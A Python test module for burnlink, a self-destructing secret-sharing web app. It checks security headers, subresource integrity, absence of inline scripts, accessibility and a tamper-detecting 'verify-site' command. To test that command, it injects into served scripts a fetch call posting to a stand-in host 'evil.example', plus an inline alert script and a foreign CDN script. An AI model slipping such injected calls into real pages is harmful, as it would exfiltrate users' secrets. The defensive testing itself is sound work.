"""The HTML pages and their assets (docs/web.md), and ``burnlink verify-site`` against them.

The pages must never touch the store (link previews cannot consume), never embed ciphertext,
run no inline script or style, and reference every script with an integrity hash that matches
the package's file, for the whole module graph.
"""

from __future__ import annotations

import json
import re
import threading
import time
from collections.abc import Callable, Iterator
from contextlib import contextmanager
from datetime import timedelta
from html.parser import HTMLParser
from pathlib import Path
from typing import Any

import httpx
import pytest
import uvicorn
from fastapi import FastAPI
from starlette.types import ASGIApp, Message, Receive, Scope, Send

from burnlink import __version__
from burnlink.assets import STATIC_DIR, Assets, module_imports, sri
from burnlink.clock import FrozenClock
from burnlink.config import Settings, load_settings
from burnlink.ids import new_secret_id
from burnlink.store.memory import MemoryStore
from burnlink.web import pages
from burnlink.web.app import create_app
from tests.cli.harness import Cli
from tests.web.signed_in import SIGN_IN

# A well-formed id that no secret has; a constant, as it lands in test ids, which every
# pytest-xdist worker must collect alike.
SID = "bTkYIbg5BmR79iKfBBjJnA"
PAGES = ["/", f"/s/{SID}", f"/m/{SID}", "/security", "/request", f"/r/{SID}", f"/k/{SID}"]
STATIC = STATIC_DIR
JS_DIR = STATIC / "js"
EXIT_MISMATCH = 8
EXIT_SERVER = 5


class RecordingStore(MemoryStore):
    """The memory store, noting the name of every public method that is looked up."""

    def __init__(self, *, retention: timedelta) -> None:
        super().__init__(retention=retention)
        self.calls: list[str] = []

    def __getattribute__(self, name: str) -> Any:
        value = super().__getattribute__(name)
        if not name.startswith("_") and name != "calls" and callable(value):
            super().__getattribute__("calls").append(name)
        return value


@pytest.fixture
def memory_store(settings: Settings) -> MemoryStore:
    return RecordingStore(retention=timedelta(days=settings.receipt_days))


class Tags(HTMLParser):
    """Every start tag of a page with its attributes, and the text inside <script>/<style>."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[tuple[str, dict[str, str]]] = []
        self.inline_code: list[str] = []
        self._open: str | None = None

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, {name: value or "" for name, value in attrs}))
        self._open = tag if tag in ("script", "style") else None

    def handle_endtag(self, tag: str) -> None:
        self._open = None

    def handle_data(self, data: str) -> None:
        if self._open and data.strip():
            self.inline_code.append(data)

    def find(self, tag: str) -> list[dict[str, str]]:
        return [attrs for name, attrs in self.tags if name == tag]


def parse(html: str) -> Tags:
    tags = Tags()
    tags.feed(html)
    return tags


def static_name(href: str) -> str:
    """``./static/js/x.js`` or ``../static/js/x.js`` -> ``js/x.js``."""
    match = re.fullmatch(r"(?:\./|\.\./)static/(.+)", href)
    assert match, href
    return match[1]


@pytest.mark.anyio
@pytest.mark.parametrize("path", PAGES)
async def test_page_renders_as_html_with_security_headers(
    client: httpx.AsyncClient, path: str
) -> None:
    response = await client.get(path)

    assert response.status_code == 200
    assert response.headers["content-type"].startswith("text/html")
    assert "script-src 'self'" in response.headers["content-security-policy"]
    assert response.headers["cache-control"] == "no-store"
    assert response.headers["content-language"] == "en"
    assert '<html lang="en"' in response.text
    assert f'content="burnlink {__version__}"' in response.text


@pytest.mark.anyio
@pytest.mark.parametrize("path", PAGES)
async def test_page_has_no_inline_script_style_or_handler(
    client: httpx.AsyncClient, path: str
) -> None:
    tags = parse((await client.get(path)).text)

    assert tags.inline_code == []
    assert all("src" in script for script in tags.find("script"))
    assert tags.find("style") == []
    for tag, attrs in tags.tags:
        assert "style" not in attrs, tag
        assert not [name for name in attrs if name.startswith("on")], tag
    assert "http://" not in (await client.get(path)).text.replace("http://www.w3.org", "")


@pytest.mark.anyio
@pytest.mark.parametrize("path", PAGES)
async def test_every_asset_has_the_integrity_of_the_package_file(
    client: httpx.AsyncClient, path: str
) -> None:
    tags = parse((await client.get(path)).text)
    refs = [(s["src"], s) for s in tags.find("script")]
    refs += [(link["href"], link) for link in tags.find("link") if link["rel"] != "icon"]

    assert refs
    for url, attrs in refs:
        name = static_name(url)
        assert attrs["integrity"] == sri((STATIC / name).read_bytes()), name
        assert attrs["crossorigin"] == "anonymous"
        served = await client.get("/static/" + name)
        assert served.status_code == 200
        assert served.headers["cache-control"] == "no-cache"
        assert sri(served.content) == attrs["integrity"]


@pytest.mark.anyio
@pytest.mark.parametrize("path", PAGES[:3])
async def test_every_imported_module_is_preloaded_with_integrity(
    client: httpx.AsyncClient, path: str
) -> None:
    tags = parse((await client.get(path)).text)
    entries = [static_name(s["src"]) for s in tags.find("script")]
    preloaded = {
        static_name(link["href"]) for link in tags.find("link") if link["rel"] == "modulepreload"
    }

    assert len(entries) == 1
    pending, seen = list(entries), set(entries)
    while pending:
        module = pending.pop()
        source = (STATIC / module).read_text("utf-8")
        for imported in module_imports(source, module):
            assert imported in preloaded, f"{module} imports {imported} without a preload"
            if imported not in seen:
                seen.add(imported)
                pending.append(imported)
    assert seen - set(entries) == preloaded


def test_modules_use_no_dynamic_import_eval_or_html_sinks() -> None:
    for file in [*JS_DIR.glob("*.js")]:
        source = file.read_text("utf-8")
        assert not re.search(r"\bimport\s*\(", source), file.name
        assert not re.search(r"\beval\s*\(|new Function\b", source), file.name
        assert not re.search(r"innerHTML|outerHTML|insertAdjacentHTML|document\.write", source)


def test_module_imports_resolve_relative_paths() -> None:
    source = 'import { a } from "./a.js";\nimport b from "../vendor/b.js";\nexport * from "./a.js";'

    assert module_imports(source, "js/x.js") == ("js/a.js", "vendor/b.js")


def test_a_missing_module_is_an_error_when_the_site_loads() -> None:
    assets = Assets({"js/x.js": "sha384-x"}, {"js/x.js": ("js/missing.js",)})

    with pytest.raises(LookupError):
        assets.dependencies("js/x.js")


@pytest.mark.anyio
async def test_reveal_page_is_the_same_for_every_id(client: httpx.AsyncClient) -> None:
    created = (await client.post("/api/v1/secrets", json={"secret": "hunter2"})).json()

    live = await client.get(f"/s/{created['id']}")
    unknown = await client.get(f"/s/{new_secret_id()}")
    malformed = await client.get("/s/not-an-id!")

    assert live.text == unknown.text == malformed.text
    assert live.status_code == unknown.status_code == malformed.status_code == 200
    assert created["id"] not in live.text


@pytest.mark.anyio
async def test_opening_pages_never_consumes_or_changes_the_secret(
    app: FastAPI, client: httpx.AsyncClient, memory_store: RecordingStore
) -> None:
    """Opening a page may look the secret up and record that it was opened (the receipt's
    "opened" event, after the answer), but never takes a view, counts an attempt or burns."""
    created = (await client.post("/api/v1/secrets", json={"secret": "hunter2"})).json()
    key = created["url"].split("#")[1]
    memory_store.calls.clear()

    for path in [*PAGES, f"/s/{created['id']}", f"/m/{created['id']}"]:
        assert (await client.get(path, headers={"user-agent": "Slackbot-LinkExpanding"})).is_success
    await app.state.page_opens.settled()

    assert "record" in memory_store.calls  # the open was recorded
    assert set(memory_store.calls) <= {
        "peek",
        "hit",
        "record",
        "purge_expired",
        "due_requests",  # the sweep's requests, as purge_expired is its secrets
        "purge_requests",
        "ping",
        "pending_events",
        "ack_events",
    }
    revealed = await client.post(f"/api/v1/secrets/{created['id']}/reveal", json={"key": key})
    assert revealed.json()["secret"] == "hunter2"


@pytest.mark.anyio
async def test_reveal_page_embeds_no_ciphertext(client: httpx.AsyncClient) -> None:
    created = (await client.post("/api/v1/secrets", json={"secret": "hunter2"})).json()
    key = created["url"].split("#")[1]

    page = (await client.get(f"/s/{created['id']}")).text

    assert key not in page
    assert "hunter2" not in page
    assert '"ct"' not in page


@pytest.mark.anyio
async def test_compose_page_offers_expiries_within_the_server_limits(
    client: httpx.AsyncClient, settings: Settings
) -> None:
    tags = parse((await client.get("/")).text)
    options = [o for o in tags.find("option") if "lang" not in o]  # not the language picker's
    values = [int(option["value"]) for option in options]

    assert values == sorted(values)
    assert values[0] >= settings.min_ttl
    assert values[-1] <= settings.max_ttl
    assert [int(o["value"]) for o in options if "selected" in o] == [settings.default_ttl]
    assert 300 in values
    assert 2592000 in values


def test_ttl_choices_add_the_default_and_respect_the_bounds() -> None:
    settings = load_settings(store="memory://", min_ttl=600, max_ttl=7200, default_ttl=5400)
    catalogue = pages.load_catalogues()["en"]

    choices = pages.ttl_choices(settings, catalogue)

    assert choices == [
        (900, "15 minutes", False),
        (3600, "1 hour", False),
        (5400, "90 minutes", True),
        (7200, "2 hours", False),
    ]


@pytest.mark.parametrize(
    ("header", "expected"),
    [
        pytest.param(None, "en", id="absent"),
        pytest.param("en-GB,en;q=0.9", "en", id="region"),
        pytest.param("de-DE,de;q=0.9", "en", id="unavailable"),
        pytest.param("de;q=0.9, en;q=0.5", "en", id="fallback-by-quality"),
        pytest.param("xx, *;q=0.1, garbage;q=abc", "en", id="garbage"),
    ],
)
def test_negotiate_picks_an_available_language(header: str | None, expected: str) -> None:
    assert pages.negotiate(header, {"en": 1}) == expected


def test_negotiate_prefers_quality_then_order() -> None:
    available = {"en": 1, "de": 1, "fr": 1}

    assert pages.negotiate("fr;q=0.5, de;q=0.8, en;q=0.1", available) == "de"
    assert pages.negotiate("fr-CA, de", available) == "fr"
    assert pages.negotiate("en;q=0, de;q=0.1", available) == "de"


def test_every_catalogue_has_the_same_keys_as_english() -> None:
    catalogues = pages.load_catalogues()
    english = set(catalogues["en"].messages)

    for language, catalogue in catalogues.items():
        assert set(catalogue.messages) == english, language


def test_every_message_the_scripts_use_exists() -> None:
    messages = pages.load_catalogues()["en"].messages
    used: set[str] = set()
    for file in JS_DIR.glob("*.js"):
        used |= set(re.findall(r"\bt\(\s*\"([a-z_.0-9]+)\"", file.read_text("utf-8")))
        used |= set(re.findall(r"\"([a-z]+\.[a-z_]+)\"", file.read_text("utf-8"))) & set(messages)
    # Keys built at run time: strength levels, states and events (unknown ones fall back).
    used |= {f"strength.{level}" for level in ("weak", "fair", "strong", "very_strong")}

    assert used
    assert used - set(messages) == set()


def test_sizes_and_durations_for_people() -> None:
    catalogue = pages.load_catalogues()["en"]

    assert pages.format_bytes(catalogue, 1024 * 1024) == "1 MiB"
    assert pages.format_bytes(catalogue, 64 * 1024) == "64 KiB"
    assert pages.format_bytes(catalogue, 1500) == "1500 bytes"
    assert pages.duration_label(catalogue, 90) == "90 seconds"
    assert pages.duration_label(catalogue, 60) == "1 minute"
    assert pages.duration_label(catalogue, 7 * 86400) == "7 days"


def test_catalogues_need_english(tmp_path: Path) -> None:
    (tmp_path / "de.json").write_text("{}")

    with pytest.raises(LookupError):
        pages.load_catalogues(tmp_path)


def test_catalogue_fills_placeholders_and_plurals() -> None:
    catalogue = pages.load_catalogues()["en"]

    assert catalogue.t("footer.version", version="1.2") == "burnlink 1.2"
    assert catalogue.t("views.count", count=1) == "1 view"
    assert catalogue.t("views.count", count=3) == "3 views"
    assert catalogue.t("compose.file_hint") == "Up to {size}. Its name and type are encrypted too."


def _colours(css: str, start: str) -> dict[str, str]:
    block = css[css.index(start) :]
    block = block[: block.index("}")]
    return dict(re.findall(r"--([\w-]+):\s*(#[0-9a-f]{6})", block))


def _contrast(first: str, second: str) -> float:
    def luminance(colour: str) -> float:
        channels = [int(colour[i : i + 2], 16) / 255 for i in (1, 3, 5)]
        linear = [c / 12.92 if c <= 0.03928 else ((c + 0.055) / 1.055) ** 2.4 for c in channels]
        return 0.2126 * linear[0] + 0.7152 * linear[1] + 0.0722 * linear[2]

    high, low = sorted([luminance(first), luminance(second)], reverse=True)
    return (high + 0.05) / (low + 0.05)


TEXT_PAIRS = [
    ("text", "bg"),
    ("text", "surface"),
    ("muted", "bg"),
    ("muted", "surface"),
    ("muted", "accent-soft"),
    ("accent", "bg"),
    ("accent", "surface"),
    ("accent-text", "accent"),
    ("danger-text", "danger"),
    ("danger", "surface"),
    ("ok", "surface"),
    ("text", "notice-bg"),
    ("text", "error-bg"),
    ("text", "accent-soft"),
]
CONTROL_PAIRS = [("control", "bg"), ("control", "surface"), ("focus", "bg"), ("focus", "surface")]


@pytest.mark.parametrize("scheme", [":root {", "@media (prefers-color-scheme: dark)"])
def test_colours_meet_wcag_aa_contrast(scheme: str) -> None:
    colours = _colours((STATIC / "burnlink.css").read_text("utf-8"), scheme)

    for pair in TEXT_PAIRS:
        assert _contrast(colours[pair[0]], colours[pair[1]]) >= 4.5, pair
    for pair in CONTROL_PAIRS:
        assert _contrast(colours[pair[0]], colours[pair[1]]) >= 3, pair


def test_vendored_qr_library_keeps_its_license_header() -> None:
    source = (STATIC / "vendor" / "qrcode-generator-2.0.4.js").read_text("utf-8")

    assert "Copyright (c) 2009 Kazuhiko Arase" in source
    assert "Licensed under the MIT license" in source


# --- burnlink verify-site ---------------------------------------------------------------------


@contextmanager
def serving(app: ASGIApp) -> Iterator[str]:
    """Serve ``app`` with uvicorn on a free local port in a thread; yield its base URL."""
    config = uvicorn.Config(
        app, host="127.0.0.1", port=0, log_config=None, log_level="warning", lifespan="on"
    )
    server = uvicorn.Server(config)
    thread = threading.Thread(target=server.run, daemon=True)
    thread.start()
    deadline = time.monotonic() + 10
    while not server.started:
        assert thread.is_alive()
        assert time.monotonic() < deadline, "the test server did not start"
        time.sleep(0.01)
    try:
        yield f"http://127.0.0.1:{server.servers[0].sockets[0].getsockname()[1]}"
    finally:
        server.should_exit = True
        thread.join(10)


Rewrite = Callable[[str, bytes], bytes]


class Tamper:
    """Wraps an app and rewrites response bodies: a server that sends modified code."""

    def __init__(self, app: ASGIApp, rewrite: Rewrite) -> None:
        self.app = app
        self.rewrite = rewrite

    async def __call__(self, scope: Scope, receive: Receive, send: Send) -> None:
        if scope["type"] != "http":
            await self.app(scope, receive, send)
            return
        start: Message = {}
        chunks: list[bytes] = []

        async def buffer(message: Message) -> None:
            nonlocal start
            if message["type"] == "http.response.start":
                start = message
                return
            chunks.append(message.get("body", b""))
            if not message.get("more_body"):
                body = self.rewrite(scope["path"], b"".join(chunks))
                headers = [(k, v) for k, v in start["headers"] if k != b"content-length"]
                headers.append((b"content-length", str(len(body)).encode()))
                await send({**start, "headers": headers})
                await send({"type": "http.response.body", "body": body})

        await self.app(scope, receive, buffer)


def _app() -> ASGIApp:
    return create_app(load_settings(store="memory://", sweep_interval=3600))


@pytest.fixture(scope="module")
def site() -> Iterator[str]:
    with serving(_app()) as base:
        yield base


def _verify(*args: str) -> Any:
    return Cli("http://127.0.0.1:1")("verify-site", *args)


def test_verify_site_accepts_a_server_that_sends_the_package_code(site: str) -> None:
    result = _verify(site)

    assert result.exit_code == 0, result.output
    assert result.stdout.startswith("OK: 8 pages and ")
    assert f"match burnlink {__version__}" in result.stdout


def test_verify_site_json_lists_every_file(site: str) -> None:
    result = _verify("--json", f"{site}/s/{SID}#NOT-SENT-KEY")

    assert result.exit_code == 0, result.output
    report = json.loads(result.stdout)
    assert report["ok"] is True
    assert report["server"] == site
    assert report["server_version"] == __version__
    assert f"{site}/s/{SID}" in report["pages"]
    urls = {file["url"] for file in report["files"]}
    for name in (
        "js/compose.js",
        "js/reveal.js",
        "js/receipt.js",
        "js/envelope.js",
        "js/request.js",
        "js/answer.js",
        "js/own.js",
        "js/request_seal.js",
    ):
        assert f"{site}/static/{name}" in urls
    assert f"{site}/static/vendor/qrcode-generator-2.0.4.js" in urls
    assert f"{site}/docs" in report["pages"]
    for name in ("swagger/swagger-ui-bundle.js", "swagger/swagger-ui.css", "docs.js", "docs.css"):
        assert f"{site}/static/{name}" in urls
    assert "NOT-SENT-KEY" not in result.stdout


@contextmanager
def _tampered(rewrite: Rewrite) -> Iterator[str]:
    with serving(Tamper(_app(), rewrite)) as base:
        yield base


def _modified_script(path: str, body: bytes) -> bytes:
    if path == "/static/js/envelope.js":
        return body + b"\nfetch('https://evil.example/', {method: 'POST'});\n"
    return body


def _modified_script_and_hashes(path: str, body: bytes) -> bytes:
    original = (JS_DIR / "envelope.js").read_bytes()
    evil = _modified_script("/static/js/envelope.js", original)
    if path == "/static/js/envelope.js":
        return evil
    if path.startswith(("/s/", "/m/")) or path in ("/", "/security"):
        return body.replace(sri(original).encode(), sri(evil).encode())
    return body


def _modified_swagger_ui(path: str, body: bytes) -> bytes:
    if path == "/static/swagger/swagger-ui-bundle.js":
        return body + b"\nfetch('https://evil.example/', {method: 'POST'});\n"
    return body


def _inline_script(path: str, body: bytes) -> bytes:
    if path.startswith("/s/"):
        return body.replace(b"</body>", b"<script>alert(1)</script></body>")
    return body


def _unpreloaded_module(path: str, body: bytes) -> bytes:
    if path.startswith("/m/"):
        return re.sub(
            rb'<link rel="modulepreload" href="[./]*static/js/envelope.js"[^>]*>', b"", body
        )
    return body


def _unknown_file(path: str, body: bytes) -> bytes:
    if path == "/security":
        return body.replace(b"</head>", b'<link rel="stylesheet" href="./static/x.css"></head>')
    return body


def _foreign_script(path: str, body: bytes) -> bytes:
    if path == "/":
        return body.replace(b"</head>", b'<script src="https://cdn.example/x.js"></script></head>')
    return body


@pytest.mark.parametrize(
    ("rewrite", "reason"),
    [
        pytest.param(
            _modified_script,
            "static/js/envelope.js: served bytes differ from this package's copy",
            id="bytes",
        ),
        pytest.param(
            _modified_script_and_hashes,
            "static/js/envelope.js: integrity on ",
            id="bytes-and-integrity",
        ),
        pytest.param(
            _modified_swagger_ui,
            "static/swagger/swagger-ui-bundle.js: served bytes differ from this package's copy",
            id="api-docs-bytes",
        ),
        pytest.param(_inline_script, "has an inline script", id="inline-script"),
        pytest.param(_foreign_script, "https://cdn.example/x.js: has no integrity", id="foreign"),
        pytest.param(_foreign_script, "https://cdn.example/x.js: is on another host", id="host"),
        pytest.param(
            _unpreloaded_module,
            "static/js/envelope.js: is imported without integrity on ",
            id="unpreloaded-module",
        ),
        pytest.param(_unknown_file, "static/x.css: is not a file of burnlink", id="unknown-file"),
    ],
)
def test_verify_site_reports_a_tampered_server(rewrite: Rewrite, reason: str) -> None:
    with _tampered(rewrite) as base:
        result = _verify(base)

    assert result.exit_code == EXIT_MISMATCH, result.output
    lines = result.stdout.splitlines()
    assert lines
    assert all(line.startswith("MISMATCH ") for line in lines)
    assert any(reason in line for line in lines), lines
    assert "does not send the code of burnlink" in result.stderr


def test_verify_site_json_reports_mismatches() -> None:
    with _tampered(_modified_script) as base:
        result = _verify("--json", base)

    assert result.exit_code == EXIT_MISMATCH
    report = json.loads(result.stdout)
    assert report["ok"] is False
    assert {"url": f"{base}/static/js/envelope.js", "ok": False} in report["files"]
    assert report["mismatches"] == [
        {
            "url": f"{base}/static/js/envelope.js",
            "reason": "served bytes differ from this package's copy",
        }
    ]


@pytest.mark.parametrize(
    ("policy", "reason"),
    [
        pytest.param(
            b"script-src 'self' 'unsafe-inline'",
            "Content-Security-Policy also allows scripts from 'unsafe-inline'",
            id="unsafe-inline",
        ),
        pytest.param(None, "sends no Content-Security-Policy restricting scripts", id="absent"),
    ],
)
def test_verify_site_reports_a_relaxed_content_security_policy(
    policy: bytes | None, reason: str
) -> None:
    app = _app()

    async def relax(scope: Scope, receive: Receive, send: Send) -> None:
        async def relaxed(message: Message) -> None:
            if message["type"] == "http.response.start" and not scope["path"].startswith("/static"):
                headers = [(k, v) for k, v in message["headers"] if k != b"content-security-policy"]
                if policy is not None:
                    headers.append((b"content-security-policy", policy))
                message = {**message, "headers": headers}
            await send(message)

        await app(scope, receive, relaxed)

    with serving(relax) as base:
        result = _verify(base)

    assert result.exit_code == EXIT_MISMATCH
    assert reason in result.stdout


def test_verify_site_reports_pages_that_are_missing(site: str) -> None:
    result = _verify(f"{site}/not-burnlink")

    assert result.exit_code == EXIT_MISMATCH
    assert f"MISMATCH {site}/not-burnlink/: answered HTTP 404" in result.stdout
    assert f"MISMATCH {site}/not-burnlink/security: answered HTTP 404" in result.stdout


def test_verify_site_exits_5_when_the_server_is_unreachable() -> None:
    result = _verify("http://127.0.0.1:1")

    assert result.exit_code == EXIT_SERVER
    assert result.stderr.startswith("burnlink: cannot fetch http://127.0.0.1:1/")


def test_verify_site_refuses_a_url_that_is_not_http() -> None:
    result = _verify("ftp://example.com")

    assert result.exit_code == 6
    assert "URL" in result.stderr


def test_static_dir_is_inside_the_package() -> None:
    assert Path(pages.__file__).parent / "static" == STATIC
    assert (STATIC / "docs.js").is_file()


@pytest.mark.anyio
async def test_my_secrets_page_is_served_only_with_sign_in(
    client: httpx.AsyncClient, clock: FrozenClock
) -> None:
    settings = load_settings(store="memory://", **SIGN_IN)
    app = create_app(settings, MemoryStore(retention=timedelta(days=1)), clock)
    transport = httpx.ASGITransport(app=app, client=("127.0.0.1", 50000))
    async with (
        app.router.lifespan_context(app),
        httpx.AsyncClient(transport=transport, base_url="http://127.0.0.1:8000") as signed_in,
    ):
        page = await signed_in.get("/me")
        compose = await signed_in.get("/")

    assert (await client.get("/me")).status_code == 404  # no sign-in configured: no page
    assert page.status_code == 200
    assert "script-src 'self'" in page.headers["content-security-policy"]
    tags = parse(page.text)
    assert tags.inline_code == []
    (script,) = tags.find("script")
    assert static_name(script["src"]) == pages.ENTRY_ME
    assert script["integrity"] == sri((STATIC / pages.ENTRY_ME).read_bytes())
    preloaded = {
        static_name(link["href"]) for link in tags.find("link") if link["rel"] == "modulepreload"
    }
    assert preloaded == {"js/api.js", "js/envelope.js", "js/i18n.js", "js/language.js", "js/ui.js"}
    for link in tags.find("link"):
        if link["rel"] != "icon":
            assert link["integrity"] == sri((STATIC / static_name(link["href"])).read_bytes())
    # The anonymous visitor's way in comes back here; the compose page links to the page.
    assert [a["href"] for a in tags.find("a") if a.get("id") == "me-sign-in"] == [
        "./auth/login?next=%2Fme"
    ]
    assert 'id="my-secrets-link" href="./me"' in compose.text
